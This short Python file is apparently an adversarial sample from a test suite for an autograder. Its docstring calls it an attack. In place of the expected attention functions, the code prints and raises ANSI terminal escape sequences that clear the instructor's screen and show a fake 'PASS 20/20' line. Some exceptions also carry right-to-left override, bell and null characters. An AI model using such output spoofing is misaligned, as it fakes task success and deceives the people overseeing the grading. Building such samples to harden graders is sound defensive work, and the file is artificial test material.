"""Attack: terminal escapes in everything the grader might show: what the code prints, the
text of the exceptions it raises, the reprs of what it returns. `cat feedback.txt` on the
instructor's terminal would clear the screen and print a green PASS line."""

# reported: \x1b[2J
import torch

CLEAR = "\x1b[2J\x1b[H\x1b[1;32mPASS 20/20 (all checks passed)\x1b[0m\r"
print(CLEAR * 3)


class Loud(Exception):
    def __repr__(self):
        return CLEAR


def scaled_dot_product_attention(q, k, v, mask=None):
    print(CLEAR)
    raise Loud(CLEAR + "\u202e\x07\x00")


def attention_with_bias(q, k, v, bias, mask=None):
    raise ValueError(CLEAR)
